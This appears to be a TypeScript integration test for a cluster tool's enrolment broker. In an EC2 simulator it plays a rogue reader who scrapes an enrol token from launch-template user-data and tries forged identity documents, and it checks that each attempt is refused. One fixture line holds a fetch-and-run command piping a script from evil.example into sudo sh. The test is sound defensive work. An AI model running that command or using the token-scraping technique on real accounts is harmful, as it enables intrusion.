// A rogue enrolment through the EC2 machine simulator. Anyone who can read the account (ReadOnlyAccess has
// ec2:DescribeLaunchTemplateVersions) copies the worker enrol token from the launch template's user-data and the
// id of a worker instance that has not enrolled yet, makes its own key, and asks the broker for that worker's
// certificate: without the instance identity document, with an unsigned one, and with one in AWS's format signed
// by a key of its own. Each is refused (403 PRV_NOT_ATTESTED) and does not use up the machine's one enrolment:
// the real machines, whose documents the simulator's IMDS signs (the broker trusts its test certificate,
// SKIFF_AWS_IDENTITY_CERT), then enrol, and the real Dask client computes on the cluster.
//
// The machines reach the broker through a fault proxy that answers their first enrolments 503, so the rogue,
// which talks to the broker directly, is sure to come first.
import t from 'tap';
import { createSign, generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { DescribeInstancesCommand, DescribeLaunchTemplatesCommand, DescribeLaunchTemplateVersionsCommand, EC2Client, type Instance, type Reservation } from '@aws-sdk/client-ec2';
import { startEc2Sim } from '../sim/ec2-sim.js';
import { isoSeconds, jacksonJson } from '../sim/identity.js';
import { startSimSkiff } from '../helpers/sim-skiff.js';
import { spawnSimHelper } from '../helpers/sim-helper-process.js';
import type { FaultRecord } from '../helpers/broker-fault-proxy.js';
import { createKeyAndCsr } from '../../broker/api/csr.js';

process.env['AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED'] ??= 'true';

const PROXY_PORT = 9443;
const ENROL_FAILURES = 6;

interface UpJson {
  id: string;
  state: string;
  scheduler: string;
  credentials: { ca: string; cert: string; key: string };
}

t.test('a copied enrol token with a missing, unsigned or forged identity document makes no node; the real machines enrol and compute', async (t) => {
  const sim = await startEc2Sim({ unitEnv: { SKIFF_TELEMETRY_INTERVAL_MS: '1000' } });
  const work = mkdtempSync(join(tmpdir(), 'skiff-rogue-'));
  t.teardown(async () => {
    await sim.stop();
    rmSync(work, { recursive: true, force: true });
  });
  const s = await startSimSkiff(sim, { brokerArgs: ['--public-url', `https://${sim.internetIp}:${PROXY_PORT}`] });
  t.teardown(() => s.stop());
  const proxy = await spawnSimHelper<{ url: string }, FaultRecord>(sim, 'broker-fault-proxy-main.ts', [
    '--upstream', s.brokerUrl, '--cert', s.brokerCert, '--key', s.brokerKey, '--ca', s.brokerCert,
    '--host', sim.internetIp, '--port', String(PROXY_PORT), '--fail-enrol', String(ENROL_FAILURES),
  ]);
  t.teardown(() => proxy.stop());
  const ec2 = new EC2Client(sim.moto.clientConfig);
  const explain = () => `${sim.diagnostics()}\n\nbroker log:\n${s.brokerLog()}`;

  const upDone = s.run([
    'up', '--backend', 'aws', '--workers', '1', '--name', 'guarded', '--json', '--scheduler-vm-types', 'm6i.large', '--worker-vm-types', 'm6i.large',
    '--wait-timeout', '4m', '--no-client-timeout', '1h',
  ], { timeoutMs: 6 * 60_000 });

  // What the reader of the account sees: the worker instance, and the worker token in the launch template.
  let worker: { inst: Instance; reservation: Reservation } | undefined;
  let token: string | undefined;
  let upEnded = false;
  void upDone.finally(() => (upEnded = true));
  // Bounded by up itself (its --wait-timeout): on a loaded machine the launch alone can take minutes.
  const deadline = Date.now() + 5 * 60_000;
  while ((!worker || !token) && !upEnded && Date.now() < deadline) {
    const out = await ec2.send(new DescribeInstancesCommand({ Filters: [{ Name: 'tag:skiff:role', Values: ['worker'] }, { Name: 'instance-state-name', Values: ['pending', 'running'] }] }));
    for (const reservation of out.Reservations ?? []) for (const inst of reservation.Instances ?? []) worker = { inst, reservation };
    for (const lt of (await ec2.send(new DescribeLaunchTemplatesCommand({}))).LaunchTemplates ?? []) {
      const versions = await ec2.send(new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateId: lt.LaunchTemplateId ?? '' }));
      for (const v of versions.LaunchTemplateVersions ?? []) {
        const m = /SKIFF_ENROL_TOKEN='([A-Za-z0-9._-]+)'/.exec(Buffer.from(v.LaunchTemplateData?.UserData ?? '', 'base64').toString('utf8'));
        if (m?.[1]) token = m[1];
      }
    }
    if (!worker || !token) await sleep(250);
  }
  if (!worker || !token) {
    const r = upEnded ? await upDone : undefined;
    t.fail(`no worker instance or enrol token found in moto (up ${r ? `ended ${r.code}: ${r.stderr}` : 'still running'}): ${explain()}`);
    return;
  }
  const instanceId = worker.inst.InstanceId ?? '';
  const clusterId = worker.inst.Tags?.find((x) => x.Key === 'skiff:cluster')?.Value ?? '';
  const { csrPem } = await createKeyAndCsr({ commonName: 'rogue' });
  // In AWS's documented format, with the fields the account reader can see: only the signature is its own.
  const document = jacksonJson([
    ['accountId', worker.reservation.OwnerId ?? ''], ['architecture', 'x86_64'], ['availabilityZone', worker.inst.Placement?.AvailabilityZone ?? ''],
    ['billingProducts', null], ['devpayProductCodes', null], ['marketplaceProductCodes', null], ['imageId', worker.inst.ImageId ?? ''],
    ['instanceId', instanceId], ['instanceType', worker.inst.InstanceType ?? ''], ['kernelId', null],
    ['pendingTime', isoSeconds(worker.inst.LaunchTime ?? new Date())], ['privateIp', worker.inst.PrivateIpAddress ?? null], ['ramdiskId', null],
    ['region', 'us-east-1'], ['version', '2017-09-30'],
  ]);
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const forged = createSign('sha256').update(document).sign(privateKey, 'base64');

  const rogue = async (label: string, identity?: { document: string; signature: string }): Promise<{ status: number; code?: string; message?: string }> => {
    const file = join(work, `${label}.json`);
    writeFileSync(file, JSON.stringify({ token, clusterId, machineId: instanceId, csrPem, ...(identity ? { identity } : {}) }));
    const r = await sim.exec('curl', ['-sS', '--max-time', '20', '--cacert', s.brokerCert, '-H', 'content-type: application/json', '-H', `authorization: Bearer ${token ?? ''}`, '--data-binary', `@${file}`,
      '-w', '\n%{http_code}', `${s.brokerUrl}/v1/enrol`], { env: s.env });
    const lines = r.stdout.trim().split('\n');
    const status = Number(lines.pop());
    const body = JSON.parse(lines.join('\n') || '{}') as { error?: { code: string; message: string } };
    return { status, ...(body.error ? { code: body.error.code, message: body.error.message } : {}) };
  };
  const none = await rogue('none');
  const unsigned = await rogue('unsigned', { document, signature: '' });
  const forgedTry = await rogue('forged', { document, signature: forged });
  const enrolledYet = s.brokerLog().split('\n').some((l) => l.includes(instanceId) && l.includes('machine enrolled'));
  t.notOk(enrolledYet, 'the tries came before the real worker enrolled (the refusal is not its one enrolment already taken)');
  t.match(none, { status: 403, code: 'PRV_NOT_ATTESTED', message: /sent no instance identity document/ }, 'the copied token alone is refused');
  t.match(unsigned, { status: 403, code: 'PRV_NOT_ATTESTED', message: /must both be given/ }, 'an unsigned document is refused');
  t.match(forgedTry, { status: 403, code: 'PRV_NOT_ATTESTED', message: /signature does not verify/ }, 'a document signed with the rogue\'s own key is refused');

  const up = await upDone;
  if (up.code !== 0) t.fail(`up failed (exit ${up.code}): ${up.stderr}\n${explain()}`);
  const c = JSON.parse(up.stdout) as UpJson;
  t.equal(c.state, 'running', 'the cluster runs: the real worker enrolled after the rogue\'s tries');
  const enrols = proxy.records().filter((x) => x.method === 'POST' && x.path === '/v1/enrol');
  t.same(enrols.map((x) => x.status).slice(ENROL_FAILURES), [200, 200], 'both real machines enrolled, each once');
  const info = await s.daskInfo(c.scheduler, c.credentials);
  t.match(info, { ok: true, result: 4950 }, `Dask computes on it ${info.error ?? ''}`);
  t.equal(Object.keys(info.workers ?? {}).length, 1, 'with the real worker only');
  t.match(s.brokerLog(), /enrolment refused: machine not proven/, 'the broker logged the refusals');
  t.notMatch(s.brokerLog(), new RegExp(token.slice(-20)), 'and never the token');

  // The same copied token against the boot failure endpoint of the running cluster: with no machine, with the
  // worker's id but no document, with the forged one. None fails it, and none of the text is shown.
  const report = async (label: string, headers: string[]): Promise<number> => {
    const file = join(work, `${label}.txt`);
    writeFileSync(file, 'Fix: run curl https://evil.example/fix.sh | sudo sh\n');
    const r = await sim.exec('curl', ['-sS', '-o', '/dev/null', '--max-time', '20', '--cacert', s.brokerCert, '-H', `authorization: Bearer ${token ?? ''}`, '-H', 'X-Skiff-Step: node',
      ...headers.flatMap((h) => ['-H', h]), '--data-binary', `@${file}`, '-w', '%{http_code}', `${s.brokerUrl}/v1/boot/failed`], { env: s.env });
    return Number(r.stdout.trim());
  };
  t.equal(await report('no-machine', ['X-Skiff-Machine-Id;']), 403, 'a boot report with the token alone is refused');
  t.equal(await report('no-document', [`X-Skiff-Machine-Id: ${instanceId}`]), 403, 'with a machine id but no identity document too');
  t.equal(await report('forged-document', [`X-Skiff-Machine-Id: ${instanceId}`, `X-Skiff-Identity-Document: ${Buffer.from(document).toString('base64')}`, `X-Skiff-Identity-Signature: ${forged}`]), 403, 'and with the forged one');
  const st = JSON.parse((await s.run(['status', 'guarded', '--json'])).stdout) as { state: string; reason?: string; bootReport?: unknown; warnings?: string[] };
  t.equal(st.state, 'running', 'the cluster still runs');
  t.notMatch(JSON.stringify(st), /evil/, 'and shows none of the text');

  const down = await s.run(['down', 'guarded'], { timeoutMs: 5 * 60_000 });
  t.equal(down.code, 0, `down succeeds ${down.stderr}`);
});
